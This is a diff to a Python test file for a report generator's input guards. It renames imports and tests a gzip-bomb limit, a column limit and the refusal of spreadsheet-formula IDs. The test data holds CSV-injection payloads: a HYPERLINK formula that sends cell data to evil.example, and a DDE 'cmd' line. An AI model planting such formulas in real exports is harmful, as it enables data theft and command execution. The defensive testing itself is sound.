@@ -340,9 +340,9 @@ def test_require_customers(tmp_path: Path) -> None:
 
 
 def test_a_gzip_bomb_stops_at_the_documented_limit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    from reportgen.io import load
+    from reportgen.io import guards
 
-    monkeypatch.setattr(load, "MAX_UNCOMPRESSED_BYTES", 8 << 20)
+    monkeypatch.setattr(guards, "MAX_UNCOMPRESSED_BYTES", 8 << 20)
     # 64 MiB of one repeated line packs into some 60 KB; the limit (here 8 MiB) stops the expansion early
     bomb = gzip.compress(b"CUST_ID,BALANCE,PURCHASES\n" + b"C1,1,2\n" * (64 << 20 >> 3), compresslevel=9)
     assert len(bomb) < 1 << 20
@@ -351,9 +351,9 @@ def test_a_gzip_bomb_stops_at_the_documented_limit(tmp_path: Path, monkeypatch: 
 
 
 def test_the_gzip_limit_is_stated_in_gib_and_several_members_still_read(tmp_path: Path) -> None:
-    from reportgen.io import load
+    from reportgen.io import guards
 
-    assert load.MAX_UNCOMPRESSED_BYTES == 4 << 30
+    assert guards.MAX_UNCOMPRESSED_BYTES == 4 << 30
     two = gzip.compress(b"CUST_ID,BALANCE,PURCHASES\nC1,10.5,0\n") + gzip.compress(b"C2,20,3.25\nC3,,7\n")
     table = load_customers(write(tmp_path, two, "two.csv.gz"), CFG)
     assert table.frame[ID].to_list() == ["C1", "C2", "C3"]
@@ -380,9 +380,9 @@ def test_a_file_that_stat_calls_empty_is_read_not_trusted() -> None:
 
 
 def test_a_header_with_too_many_columns_is_refused_before_reading(tmp_path: Path) -> None:
-    from reportgen.io import load
+    from reportgen.io import guards
 
-    header = "CUST_ID,BALANCE,PURCHASES," + ",".join(f"x{i}" for i in range(load.MAX_COLUMNS))
+    header = "CUST_ID,BALANCE,PURCHASES," + ",".join(f"x{i}" for i in range(guards.MAX_COLUMNS))
     message = error_of(write(tmp_path, header + "\nC1,1,2\n"))
     assert "line 1 has 10,003 columns; at most 10,000 are read" in message
 
@@ -416,7 +416,7 @@ def test_an_overlong_id_is_refused(tmp_path: Path) -> None:
     ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3+cmd"],
 )
 def test_ids_a_spreadsheet_would_run_are_refused_unless_allowed(tmp_path: Path, bad: str) -> None:
-    from reportgen.io.load import refuse_formula_ids
+    from reportgen.io.guards import refuse_formula_ids
 
     quoted = '"' + bad.replace('"', '""') + '"'
     table = load_customers(write(tmp_path, f"CUST_ID,BALANCE,PURCHASES\nC1,1,2\n{quoted},3,4\n"), CFG)
@@ -428,7 +428,7 @@ def test_ids_a_spreadsheet_would_run_are_refused_unless_allowed(tmp_path: Path, 
 
 
 def test_numbers_with_a_sign_are_not_formulas(tmp_path: Path) -> None:
-    from reportgen.io.load import refuse_formula_ids
+    from reportgen.io.guards import refuse_formula_ids
 
     table = load_customers(write(tmp_path, "CUST_ID,BALANCE,PURCHASES\n-17,1,2\n+4420,3,4\n"), CFG)
     refuse_formula_ids(table, allowed=False)
@@ -438,7 +438,7 @@ def test_a_transaction_log_whose_sums_overflow_is_an_error_naming_the_customer(t
     from datetime import date
 
     from reportgen.config import TransactionConfig
-    from reportgen.io.load import refuse_unusable_values
+    from reportgen.io.guards import refuse_unusable_values
     from reportgen.io.transactions import load_transactions
 
     rows = "".join(
